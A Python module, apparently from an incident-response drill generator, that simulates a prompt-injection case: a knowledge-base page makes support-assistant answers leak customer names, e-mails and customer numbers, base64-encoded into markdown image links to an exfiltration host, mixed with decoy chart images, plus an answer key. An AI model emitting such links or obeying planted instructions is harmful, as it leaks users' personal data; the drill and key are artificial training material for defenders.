"""A knowledge-base page carries an instruction; answers leak customer data in an image link."""

from __future__ import annotations

from base64 import b64encode
from collections.abc import Iterator

from drills.sample import knowledge
from drills.sample.apps.support import Case, hold
from drills.sample.call import Label
from drills.sample.company import END, MINUTE, START
from drills.sample.dice import Dice
from drills.sample.people import People, Person
from drills.sample.stories.plot import Session, Story, in_order, scaled
from drills.sample.traffic import moments

ID = "kb-image-leak"


def plan(seed: int, people: People, records: int) -> Story:
    """Victims from the first evening until the page is taken out; harmless charts all along."""
    victims, charts = scaled(26, records), scaled(40, records)
    dice = Dice(seed, ID)
    return Story(
        id=ID,
        total=victims + charts,
        sessions=in_order(
            _leaks(Dice(seed, ID, "leaks"), people, victims), _charts(dice, people, charts)
        ),
        answers={
            "carrier": knowledge.CARRIER,
            "edited_us": knowledge.EDITED,
            "quarantined_us": knowledge.QUARANTINED,
            "exfil_host": knowledge.EXFIL_HOST,
            "data_categories": ["name", "e-mail", "customer number"],
            "decoy_host": "charts.metering.example",
        },
        people_roles=("leaked",),
    )


def _leaks(dice: Dice, people: People, count: int) -> Iterator[Session]:
    first, last = knowledge.EDITED + 35 * MINUTE, knowledge.QUARANTINED - 2 * MINUTE
    for when in moments(dice, count, first, last):
        person = people.anyone(dice)
        channel = "wren-web" if dice.chance(0.75) else "wren-messaging"
        case = Case(person, when, channel, topic=dice.pick(("debit", "account")), plain=True)
        case.tail = f"\n\n![status]({_link(person)})"
        case.labels = (Label(ID, "leaked"),)
        yield when, hold(dice, case)


def _link(person: Person) -> str:
    secret = f"{person.name}|{person.email}|{person.customer}"
    return f"https://{knowledge.EXFIL_HOST}/b.png?d={b64encode(secret.encode()).decode()}"


def _charts(dice: Dice, people: People, count: int) -> Iterator[Session]:
    for when in moments(dice, count, START, END):
        person = people.someone(dice)
        case = Case(person, when, topic=dice.pick(("bill", "meter")), plain=True)
        value = dice.between(120, 900)
        case.tail = f"\n\n![use](https://charts.metering.example/use.png?m=10&kwh={value})"
        case.labels = (Label(ID, "decoy-chart"),)
        yield when, hold(dice, case)
